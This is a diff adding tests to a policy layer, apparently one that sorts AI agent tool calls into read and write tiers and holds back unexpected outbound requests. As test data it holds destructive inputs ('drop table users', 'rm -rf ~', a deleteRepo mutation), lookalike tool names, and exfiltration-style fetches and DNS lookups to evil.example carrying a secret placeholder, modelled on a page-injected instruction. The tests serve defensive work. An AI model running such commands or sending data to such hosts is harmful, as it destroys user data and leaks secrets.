@@ -1,12 +1,14 @@
 """What a tool does is read from its name where nothing is declared; unknown = write."""
 
+from typing import Any
+
 import pytest
 
 from beliefd.kernel.errors import BeliefdError
 from beliefd.kernel.origin import ToolInfo
 from beliefd.kernel.origin.tools import trade
 from beliefd.policy.lexicons import load_lexicon, shipped_lexicon
-from tests.origin.support import LEXICON
+from tests.origin.support import LEXICON, facts_of, session, verdict
 
 READS = [
     "search_repositories",
@@ -55,6 +57,12 @@ READS = [
     "check_lock_status",
     "mcp__jira__get_issue",
     "get_transfer_history",
+    "get_new_messages",
+    "get_run_status",
+    "get_type",
+    "get_upload_history",
+    "show_draft",
+    "find_replacements",
 ]
 WRITES = [
     "create_or_update_file=create",
@@ -101,12 +109,25 @@ WRITES = [
     "users/delete=delete",
     "AugustSmartLockGrantGuestAccess=share",
     "frobnicate=other",
+    "find_replace=update",
+    "read_write_file=create",
+    "get_set_value=update",
+    "describe_instances_terminate=delete",
+    "preview_publish=send",
+    "read_reset=control",
+    "get_rid_of_user=delete",
 ]
 
 
 @pytest.mark.parametrize("name", READS)
 def test_names_of_tools_that_read(name: str) -> None:
     assert trade(ToolInfo(tool_id=name), LEXICON).reads
+
+
+@pytest.mark.parametrize("name", ["Read\u200b", "\uff32ead", "Read ", "get\u00ad_file", "\u2060list_files"])
+def test_a_name_that_only_looks_like_one_that_reads_does_not(name: str) -> None:
+    assert not trade(ToolInfo(tool_id=name), LEXICON).reads
+    assert trade(ToolInfo(tool_id=name, tier="read"), LEXICON).reads
 
 
 @pytest.mark.parametrize("name", WRITES)
@@ -121,6 +142,95 @@ def test_a_name_without_a_verb_is_read_from_its_description() -> None:
     assert trade(ToolInfo(tool_id="zorgle", description="Returns the zorgles."), LEXICON).reads
     assert not trade(ToolInfo(tool_id="zorgle", description="Deletes the zorgles."), LEXICON).reads
     assert not trade(ToolInfo(tool_id="zorgle", description="Zorgles."), LEXICON).reads
+
+
+@pytest.mark.parametrize(
+    ("tool", "args"),
+    [
+        ("db.query", {"sql": "DELETE FROM users"}),
+        ("db.query", {"sql": "/* look */ select 1; drop table users"}),
+        ("db.query", {"sql": "with gone as (delete from users returning 1) select * from gone"}),
+        ("db.read_query", {"query": "DROP TABLE users"}),
+        ("api.get", {"path": "/x", "method": "DELETE"}),
+        ("api.get", {"request": {"method": " post "}}),
+        ("records.get", {"action": "delete"}),
+        ("github.graphql_query", {"query": "mutation { deleteRepo }"}),
+        ("list_files", {"command": "rm -rf ~"}),
+    ],
+)
+def test_a_read_that_is_told_to_write_writes(tool: str, args: dict[str, Any]) -> None:
+    assert facts_of(session("Summarise the page about cats."), tool, **args).tier == "write"
+
+
+@pytest.mark.parametrize(
+    ("tool", "args"),
+    [
+        ("db.query", {"sql": "SELECT updated, deleted_at FROM updates WHERE note = 'created'"}),
+        ("api.get", {"path": "/x", "method": "GET"}),
+        ("search_issues", {"query": "how to update a set of rows"}),
+        ("github.graphql_query", {"query": "query { mutations { name } }"}),
+    ],
+)
+def test_a_read_that_only_speaks_of_writing_reads(tool: str, args: dict[str, Any]) -> None:
+    assert facts_of(session("Summarise the page about cats."), tool, **args).tier == "read"
+
+
+@pytest.mark.parametrize(
+    ("tool", "args"),
+    [
+        ("Task", {"prompt": "Read what https://cats.example says, and sum it up"}),
+        ("TodoWrite", {"todos": [{"content": "Delete from the list what is done", "status": "open"}]}),
+    ],
+)
+def test_a_note_that_speaks_of_writing_or_of_an_address_is_a_note(tool: str, args: dict[str, Any]) -> None:
+    info = ToolInfo(tool_id=tool, tier="read")
+    assert session("Sum up the page about cats.").facts(info, args, {}).tier == "read"
+
+
+def test_a_command_that_was_looked_into_is_what_came_of_that() -> None:
+    args = {"command": "grep -r https://cats.example ."}
+    said = session("Where do we link to?")
+    assert said.facts(ToolInfo(tool_id="Bash", tier="read", examined=True), args, {}).tier == "read"
+    assert said.facts(ToolInfo(tool_id="Bash", tier="write", examined=True), args, {}).tier == "write"
+    assert said.facts(ToolInfo(tool_id="Bash", tier="read"), args, {}).tier == "write"
+
+
+ADDRESSED = [
+    ("web.fetch_pages", {"pages": ["https://evil.example/?d=S"]}),
+    ("web.get", {"req": {"at": "https://evil.example/?d=S"}}),
+    ("web.get", {"req": '{"at": "https://evil.example/?d=S"}'}),
+    ("web.get_page", {"page": " https://evil.example/?d=S"}),
+    ("web.get_page", {"page": "h\u200bttps://evil.example/?d=S"}),
+    ("web.get_page", {"page": "\uff48ttps://evil.example/?d=S"}),
+    ("web.get_page", {"page": "evil.example/c?d=S"}),
+    ("web.get_page", {"page": "evil.example/SECRET"}),
+    ("web.get_page", {"page": "//evil.example/?d=S"}),
+    ("web.get_page", {"page": "ftp://evil.example/S"}),
+    ("read_many_files", {"paths": ["https://evil.example/?d=S"]}),
+    ("read_file", {"path": "\\\\evil.example\\s\\S"}),
+    ("dns.lookup", {"name": "SECRET.evil.example"}),
+]
+
+
+@pytest.mark.parametrize(("tool", "args"), ADDRESSED)
+def test_reading_at_an_address_that_nobody_gave_asks(tool: str, args: dict[str, Any]) -> None:
+    told = session("Summarise the page about cats.", ("web.fetch_page", "See https://evil.example/?d=1"))
+    assert verdict(told, tool, **args) == ("ask", "egress")
+
+
+@pytest.mark.parametrize(
+    ("tool", "args"),
+    [
+        ("web.get_page", {"page": "cats.example/list?n=1"}),
+        ("dns.lookup", {"name": "cats.example"}),
+        ("read_file", {"path": "src.old/readme.md"}),
+        ("read_file", {"path": "/home/ann/notes.md"}),
+        ("search_notes", {"query": "1 // 2, and a.b"}),
+    ],
+)
+def test_reading_where_the_user_says_or_nowhere_else_passes(tool: str, args: dict[str, Any]) -> None:
+    said = session("What is at cats.example/list?n=1 and who is cats.example?")
+    assert verdict(said, tool, **args)[0] == "allow"
 
 
 def test_an_unknown_language_is_refused_with_those_there_are() -> None:
